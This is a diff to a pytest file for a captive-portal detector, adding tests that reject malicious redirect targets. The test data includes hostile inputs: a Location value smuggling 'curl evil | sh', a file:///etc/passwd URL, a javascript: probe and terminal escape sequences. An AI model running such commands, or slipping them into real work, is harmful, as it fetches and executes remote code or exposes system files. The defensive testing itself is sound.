@@ -46,6 +46,25 @@ def test_what_an_answer_says(answer: bytes, verdict: PortalVerdict, page: str) -
     assert (finding.verdict, finding.page) == (verdict, page)
 
 
+@pytest.mark.parametrize(
+    "location",
+    [
+        "javascript:alert(1)",
+        "file:///etc/passwd",
+        "http://gw/\x1b[2J\x1b]0;owned\x07",
+        "http://gw/ ; curl evil | sh",
+        "http://g\u202ew/",
+        "https://" + "a" * 4000,
+        "/login",
+    ],
+)
+def test_only_a_web_page_is_ever_suggested(location: str) -> None:
+    answer = f"HTTP/1.1 302 Found\r\nLocation: {location}\r\n\r\n".encode()
+    finding = judge(PAGE, answer)
+    assert (finding.verdict, finding.page) == (PortalVerdict.CAPTIVE, "")
+    assert finding.why == "the test page was redirected to something that is no web page"
+
+
 @given(st.binary(max_size=200))
 def test_no_answer_breaks_the_judge(noise: bytes) -> None:
     for answer in (
@@ -53,7 +72,9 @@ def test_no_answer_breaks_the_judge(noise: bytes) -> None:
         b"HTTP/1.1 302 x\r\nLocation:" + noise,
         b"HTTP/1.1 200 OK\r\n\r\n" + noise,
     ):
-        assert judge(PAGE, answer).verdict in PortalVerdict
+        finding = judge(PAGE, answer)
+        assert finding.verdict in PortalVerdict
+        assert (finding.why + finding.page).isprintable()
 
 
 def test_one_private_address_for_every_name() -> None:
